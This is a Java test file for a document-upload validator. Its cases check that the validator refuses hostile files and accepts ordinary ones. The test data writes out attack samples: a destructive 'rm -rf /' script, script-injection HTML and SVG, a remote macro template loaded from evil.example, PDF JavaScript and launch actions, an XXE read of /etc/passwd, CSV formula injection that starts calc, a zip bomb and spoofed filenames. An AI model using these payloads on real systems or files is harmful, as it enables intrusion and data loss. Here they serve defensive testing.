package org.rovingpm.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.rovingpm.badinput.NaughtyStrings;
import org.rovingpm.submission.Refusal;

class CheckDocumentTest {

    private static final String MAIL =
            "Received: by mail.example.org\r\n with SMTP\r\nfrom: a@example.org\r\nSubject: Rota\r\n\r\nHello";

    private final CheckDocument check = new CheckDocument();

    private DocumentKind kind(String name, byte[] content) {
        return check.kindOf(DocumentName.read(name), content);
    }

    private void refuses(String name, byte[] content, String sentence) {
        assertThatThrownBy(() -> kind(name, content))
                .as(name)
                .isInstanceOf(Refusal.class)
                .hasMessageContaining(sentence);
    }

    @Test
    void letsInWhatPracticesAndPmsWorkWith() {
        assertThat(kind("Plan.PDF", SampleFiles.pdf("a plan"))).isEqualTo(DocumentKind.PDF);
        assertThat(kind("letter.docx", SampleFiles.docx("word/document.xml", "<w/>")))
                .isEqualTo(DocumentKind.WORD);
        assertThat(kind("rota.xlsx", SampleFiles.xlsx())).isEqualTo(DocumentKind.EXCEL);
        assertThat(kind("letter.odt", SampleFiles.openDocument("text"))).isEqualTo(DocumentKind.ODF_TEXT);
        assertThat(kind("rota.ods", SampleFiles.openDocument("spreadsheet"))).isEqualTo(DocumentKind.ODF_SPREADSHEET);
        assertThat(kind("board.jpg", SampleFiles.picture("jpg"))).isEqualTo(DocumentKind.JPEG);
        assertThat(kind("board.jpeg", SampleFiles.picture("jpg"))).isEqualTo(DocumentKind.JPEG);
        assertThat(kind("board.png", SampleFiles.picture("png"))).isEqualTo(DocumentKind.PNG);
        assertThat(kind("board.gif", SampleFiles.picture("gif"))).isEqualTo(DocumentKind.GIF);
        assertThat(kind("notes.txt", SampleFiles.text("Grüße, 中文, 🏥\nFrom: here")))
                .isEqualTo(DocumentKind.TEXT);
        assertThat(kind("rota.csv", SampleFiles.text("day;who\nMonday;Ann\n"))).isEqualTo(DocumentKind.CSV);
        assertThat(kind(
                        "old.csv",
                        "day;place\nMonday;Café Field\nTuesday;Surgery\n".getBytes(StandardCharsets.ISO_8859_1)))
                .isEqualTo(DocumentKind.CSV);
        assertThat(kind("complaint.eml", SampleFiles.text(MAIL))).isEqualTo(DocumentKind.EMAIL);
        assertThat(kind("complaint.msg", SampleFiles.compound("Root Entry", "__properties_version1.0")))
                .isEqualTo(DocumentKind.OUTLOOK);
    }

    @Test
    void refusesWhatCanRunWhateverItIsCalled() {
        byte[] program = new byte[512];
        program[0] = 'M';
        program[1] = 'Z';
        byte[] page = SampleFiles.text("<!DOCTYPE html><html><script>alert(1)</script></html>");
        byte[] drawing = SampleFiles.text("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
        byte[] script = SampleFiles.text("#!/bin/sh\nrm -rf /\n");
        for (String extension : new String[] {
            "exe", "html", "htm", "svg", "js", "sh", "bat", "jar", "zip", "xml", "hta", "lnk", "iso", "pptx"
        }) {
            refuses("file." + extension, page, "Files of this kind are not accepted");
        }
        for (String extension : new String[] {"pdf", "docx", "xlsx", "odt", "jpg", "png", "txt", "csv", "eml", "msg"}) {
            for (byte[] content :
                    new byte[][] {program, page, drawing, script, SampleFiles.zip(Map.of("a.exe", "x"))}) {
                refuses("file." + extension, content, "does not match its name");
            }
        }
        refuses("plan.pdf.exe", SampleFiles.pdf("x"), "Files of this kind");
        refuses("plan", SampleFiles.pdf("x"), "Files of this kind");
    }

    @Test
    void refusesMacrosInWhateverClothes() {
        refuses("letter.doc", SampleFiles.compound("WordDocument"), "save it as .docx");
        refuses("rota.xls", SampleFiles.compound("Workbook"), "save it as .xlsx");
        refuses("letter.docm", SampleFiles.docx(), "Files with macros");
        refuses(
                "letter.docx",
                SampleFiles.office("wordprocessingml.document", "word/vbaProject.bin", "x"),
                "does not match its name");
        refuses("letter.docx", SampleFiles.office("wordprocessingml.template"), "does not match its name");
        refuses(
                "letter.docx",
                SampleFiles.docx("more/_rels/.rels", "macroEnabled", "word/activeX/activeX1.bin", "x"),
                "does not match its name");
        refuses(
                "letter.docx",
                SampleFiles.docx(
                        "word/_rels/settings.xml.rels",
                        "<Relationship Type=\"http://x/attachedTemplate\" "
                                + "Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/>"),
                "does not match its name");
        refuses("rota.xlsx", SampleFiles.xlsx("xl/macrosheets/sheet1.xml", "<x/>"), "does not match its name");
        refuses(
                "letter.odt",
                SampleFiles.zip(Map.of(
                        "mimetype", "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml", "x")),
                "does not match its name");
        refuses("mail.msg", SampleFiles.compound("__properties_version1.0", "_VBA_PROJECT"), "does not match its name");
        refuses("letter.docx", SampleFiles.compound("EncryptedPackage"), "protected by a password");
    }

    @Test
    void refusesAPdfThatRunsSomethingHoweverItIsWritten() {
        for (String part : List.of(
                "/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
                "/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>",
                "/AA<</O<</S/Launch/F(calc.exe)>>>>",
                "/Names<</EmbeddedFiles 3 0 R>>",
                "/Annots[<</Subtype/RichMedia>>]")) {
            refuses("plan.pdf", SampleFiles.pdf(part), "contains scripts, or other files");
        }
        refuses(
                "plan.pdf",
                SampleFiles.pdfWithObjects("<</S/JavaScript/JS(app.alert(1))>>"),
                "contains scripts, or other files");
        refuses("plan.pdf", SampleFiles.pdfWithObjects(" ".repeat(70_000_000)), "contains scripts, or other files");
        refuses("plan.pdf", SampleFiles.pdf("/Encrypt 9 0 R"), "protected by a password");
        assertThat(kind("plan.pdf", SampleFiles.pdfWithObjects("<</Type/Page>>")))
                .isEqualTo(DocumentKind.PDF);
        assertThat(kind("plan.pdf", SampleFiles.pdf("about JavaScript and the launch")))
                .isEqualTo(DocumentKind.PDF);
    }

    @Test
    void refusesOfficeFilesWithADocumentTypeOfTheirOwn() {
        String type = "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w>&x;</w>";
        refuses("letter.docx", SampleFiles.docx("word/document.xml", type), "does not match its name");
        refuses(
                "letter.docx",
                SampleFiles.docx("word/document.xml", "<!--" + "x".repeat(16_380) + "-->" + type),
                "does not match its name");
        refuses(
                "letter.docx",
                SampleFiles.docx("word/document.xml", String.join("\0", type.split("")) + "\0"),
                "does not match its name");
    }

    @Test
    void refusesTablesWithFormulasAndAcceptsNumbersWithASign() {
        for (String cell : List.of(
                "=1+1",
                "@SUM(A1)",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "\"=HYPERLINK(\"\"http://x\"\")\"",
                " =A1")) {
            refuses("rota.csv", SampleFiles.text("day;who\nMonday;" + cell + "\n"), "formulas");
            refuses("rota.csv", SampleFiles.text(cell + ",Ann\n"), "formulas");
        }
        assertThat(kind("rota.csv", SampleFiles.text("change;telephone\n-12.50;+44 20 7946 0000\n+3%;-\na-b;a=b\n")))
                .isEqualTo(DocumentKind.CSV);
    }

    @Test
    void refusesOneKindUnderTheNameOfAnother() {
        refuses("letter.docx", SampleFiles.xlsx(), "does not match its name");
        refuses("letter.odt", SampleFiles.openDocument("spreadsheet"), "does not match its name");
        refuses("board.png", SampleFiles.picture("jpg"), "does not match its name");
        refuses("board.pdf", SampleFiles.picture("png"), "does not match its name");
        refuses("mail.eml", SampleFiles.text("Dear all,\nFrom: nobody\n"), "does not match its name");
        refuses("mail.msg", SampleFiles.compound("WordDocument"), "does not match its name");
    }

    @Test
    void refusesWhatIsEmptyTooLargeOrUnpacksWithoutEnd() {
        refuses("plan.pdf", new byte[0], "is empty");
        refuses("plan.pdf", new byte[AddDocument.LARGEST + 1], "larger than 10 MB");
        refuses("letter.docx", SampleFiles.bomb(), "does not match its name");
        refuses("letter.docx", java.util.Arrays.copyOf(SampleFiles.docx(), 40), "does not match its name");
    }

    @Test
    void acceptsNamesInEveryScriptAndNothingThatDeceives() {
        assertThat(DocumentName.read("Größe 中文 العربية 🏥.pdf").value()).isEqualTo("Größe 中文 العربية 🏥.pdf");
        assertThat(DocumentName.read("Gro\u0308ße.pdf").value()).isEqualTo("Größe.pdf");
        assertThat(DocumentName.read("C:\\Users\\ann\\plan.pdf").value()).isEqualTo("plan.pdf");
        assertThat(DocumentName.read("../../etc/plan.pdf").value()).isEqualTo("plan.pdf");
        assertThat(DocumentName.read("invoice\u202Efdp.exe").extension()).isEqualTo("exe");
        assertThat(DocumentName.read("plan.pdf.").value()).isEqualTo("plan.pdf");
        assertThat(DocumentName.read("x".repeat(300) + ".pdf").value())
                .hasSize(150)
                .endsWith("….pdf");
        assertThat(DocumentName.read("🏥".repeat(300) + ".pdf").value())
                .hasSizeLessThanOrEqualTo(150)
                .endsWith("🏥….pdf");
        assertThatThrownBy(() -> DocumentName.read("\u202E "))
                .isInstanceOf(Refusal.class)
                .hasMessageContaining("cannot be shown");
        for (String naughty : NaughtyStrings.all()) {
            String name = DocumentName.read(naughty + "a.pdf").value();
            assertThat(name)
                    .as(naughty)
                    .matches("(?s)[^\\p{Cc}/\\\\<>\"]{1,150}")
                    .endsWith(".pdf");
        }
    }
}
